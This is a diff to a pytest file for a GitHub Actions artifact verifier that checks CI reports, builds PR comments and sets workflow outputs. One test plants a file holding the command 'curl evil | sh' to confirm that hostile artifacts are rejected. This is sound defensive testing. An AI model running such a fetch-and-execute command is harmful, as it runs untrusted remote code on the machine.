@@ -14,7 +14,6 @@ from pathlib import Path
 
 import pytest
 
-from gha_support import github_env
 from gitops.actions.artifact import (
     MAX_REPORT_BYTES,
     ArtifactError,
@@ -22,6 +21,8 @@ from gitops.actions.artifact import (
     confirm_pull,
     verify_artifact,
 )
+from gitops.review.marker import has_marker
+from runner import Runner
 from support import ROOT
 
 HEAD = "c0ffee" + "0" * 34
@@ -151,6 +152,16 @@ def test_a_run_that_failed_before_the_report_gets_a_short_note(tmp_path: Path) -
     body = comment_body(verified, conclusion="failure", run_url="https://example.invalid/run/1")
     assert "finished with **failure** before the report was written" in body
     assert "https://example.invalid/run/1" in body
+    assert has_marker(body), "the next run must find and update this comment"
+
+
+def test_a_report_of_a_failed_run_says_so_above_the_report(tmp_path: Path) -> None:
+    verified = verify_artifact(artifact(tmp_path / "a"), run_head_sha=HEAD)
+    url = "https://example.invalid/run/2"
+    assert comment_body(verified, conclusion="success", run_url=url) == REPORT
+    body = comment_body(verified, conclusion="failure", run_url=url)
+    assert body.startswith("> [!WARNING]\n> The CI run finished with **failure**")
+    assert body.endswith(REPORT)
 
 
 def pull(number: int = 7, sha: str = HEAD, repo: str = "fork/churn", state: str = "open") -> dict:
@@ -189,23 +200,24 @@ def cli(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str
     )
 
 
-def test_cli_verifies_confirms_and_sets_outputs_without_the_project_env(tmp_path: Path) -> None:
-    env = github_env(tmp_path, "workflow_run", {})
+def test_cli_verifies_and_sets_outputs_without_the_project_env(
+    tmp_path: Path, runner: Runner
+) -> None:
+    job = runner.for_event("workflow_run", {})
+    env = job.env
     root = artifact(tmp_path / "artifact")
     comment = tmp_path / "comment.md"
-    proc = cli(["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(comment)], env)
+    args = ["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(comment)]
+    proc = cli([*args, "--conclusion", "success"], env)
     assert proc.returncode == 0, proc.stderr
     assert comment.read_text() == REPORT
-    (tmp_path / "pull.json").write_text(json.dumps(pull()))
-    confirm = ["confirm", "--pull", str(tmp_path / "pull.json"), "--pr", "7"]
-    proc = cli([*confirm, "--head-sha", HEAD, "--head-repo", "fork/churn"], env)
-    assert proc.returncode == 0, proc.stderr
-    outputs = (tmp_path / "output.txt").read_text().splitlines()
-    assert outputs == ["pr=7", f"head_sha={HEAD}", "post=true"]
+    outputs = (job.tmp / "output.txt").read_text().splitlines()
+    assert outputs == ["pr=7", f"head_sha={HEAD}"]
 
 
-def test_cli_rejects_hostile_artifact_and_writes_no_comment(tmp_path: Path) -> None:
-    env = github_env(tmp_path, "workflow_run", {})
+def test_cli_rejects_hostile_artifact_and_writes_no_comment(tmp_path: Path, runner: Runner) -> None:
+    job = runner.for_event("workflow_run", {})
+    env = job.env
     root = artifact(tmp_path / "artifact")
     (root / "payload.sh").write_text("curl evil | sh")
     comment = tmp_path / "comment.md"
@@ -213,13 +225,13 @@ def test_cli_rejects_hostile_artifact_and_writes_no_comment(tmp_path: Path) -> N
     assert proc.returncode == 2
     assert "'payload.sh': unexpected file" in proc.stderr
     assert not comment.exists()
-    assert (tmp_path / "output.txt").read_text() == ""
-    assert "Artifact rejected" in (tmp_path / "summary.md").read_text()
+    assert (job.tmp / "output.txt").read_text() == ""
+    assert "Artifact rejected" in job.summary
 
 
-def test_cli_will_not_write_the_comment_into_the_artifact(tmp_path: Path) -> None:
+def test_cli_will_not_write_the_comment_into_the_artifact(tmp_path: Path, runner: Runner) -> None:
     root = artifact(tmp_path / "artifact")
     args = ["verify", "--dir", str(root), "--head-sha", HEAD, "--comment", str(root / "c.md")]
-    proc = cli(args, github_env(tmp_path, "workflow_run", {}))
+    proc = cli(args, runner.for_event("workflow_run", {}).env)
     assert proc.returncode == 2
     assert "outside the artifact" in proc.stderr
